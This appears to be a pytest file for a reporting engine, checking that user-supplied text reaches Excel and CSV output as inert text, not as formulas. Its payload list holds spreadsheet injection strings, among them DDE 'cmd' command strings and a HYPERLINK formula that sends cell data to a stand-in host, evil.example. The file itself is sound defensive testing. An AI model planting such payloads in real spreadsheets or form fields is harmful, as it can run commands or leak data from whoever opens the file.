"""Formula injection: text from users reaches Excel and CSV as text, never as a formula.

Each payload is a value a customer or engineer could type into a title or remark; the
workbook is read back with openpyxl and the CSV with the csv module, as a reader's
spreadsheet would see them.
"""

from __future__ import annotations

import csv
import io
from datetime import date
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from netcare.reports.engine import Column, Document, Meta, Section, Table, render
from netcare.reports.engine.cells import csv_cell, csv_writer, starts_formula

PAYLOADS = [
    "=1+1",
    "+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1)",
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "\t=1+1",
    "\r=1+1",
    "=cmd|'/C calc'!A0,=1+1",
]


def _document(payload: str) -> Document:
    table = Table(
        caption="Requests",
        columns=[Column("Title"), Column("Hours", number_format="0.0"), Column("Delta")],
        rows=[
            [payload, -2.5, -3],
            ["plain title", 4.0, Decimal("-1.25")],
        ],
    )
    return Document(
        meta=Meta(
            customer=payload,
            report_title="Review",
            period="2026",
            version="1.0",
            author="=A1",
            reviewer="reviewer",
            date=date(2026, 6, 30),
            language="en",
        ),
        sections=[Section("Section", blocks=[table])],
        subtitle=payload,
    )


@pytest.mark.parametrize("payload", PAYLOADS)
def test_xlsx_writes_user_text_as_text(payload: str, tmp_path: Path) -> None:
    path = render(_document(payload), "xlsx", tmp_path / "r.xlsx")
    book = openpyxl.load_workbook(path)
    cell = book["Requests"]["A2"]
    assert cell.value == payload  # the visible text is kept exactly
    assert cell.data_type == "s" and cell.quotePrefix
    summary = book[book.sheetnames[0]]
    texts = {c.value: c for row in summary.iter_rows() for c in row if c.value is not None}
    for text in (payload, "=A1"):
        assert texts[text].data_type == "s" and texts[text].quotePrefix, text
    # No cell of the workbook holds a formula.
    for sheet in book.worksheets:
        for row in sheet.iter_rows():
            assert all(c.data_type != "f" for c in row), sheet.title


def test_xlsx_negative_numbers_stay_numbers(tmp_path: Path) -> None:
    path = render(_document("=1+1"), "xlsx", tmp_path / "r.xlsx")
    sheet = openpyxl.load_workbook(path)["Requests"]
    assert sheet["B2"].value == -2.5 and sheet["B2"].data_type == "n"
    assert sheet["C2"].value == -3 and sheet["C2"].data_type == "n"
    assert sheet["C3"].value == -1.25 and sheet["C3"].data_type == "n"
    # Ordinary text gets no quote prefix; only text a spreadsheet could misread does.
    assert sheet["A3"].value == "plain title" and not sheet["A3"].quotePrefix


@pytest.mark.parametrize("payload", PAYLOADS)
def test_csv_cells_are_neutralised(payload: str) -> None:
    buffer = io.StringIO(newline="")
    writer = csv_writer(buffer)
    writer.writerow([payload, -2, "ok"])
    writer.writerows([["-7", 1.5, "a,b"]])
    rows = list(csv.reader(io.StringIO(buffer.getvalue(), newline="")))
    assert rows[0] == ["'" + payload, "-2", "ok"]
    assert rows[1] == ["-7", "1.5", "a,b"]  # numbers and a number-only text stay numbers
    assert not any(starts_formula(cell) for row in rows for cell in row if cell not in {"-2", "-7"})


@pytest.mark.parametrize(
    ("value", "expected"),
    [
        ("=1+1", "'=1+1"),
        ("-2+3", "'-2+3"),
        ("-2", "-2"),
        ("+3.5", "+3.5"),
        ("-1,000.25", "-1,000.25"),
        ("-1e3", "-1e3"),
        ("-", "'-"),
        ("- item", "'- item"),
        ("a=b", "a=b"),
        ("", ""),
        (-4, -4),
        (None, None),
        (date(2026, 1, 1), date(2026, 1, 1)),
    ],
)
def test_csv_cell(value: object, expected: object) -> None:
    assert csv_cell(value) == expected
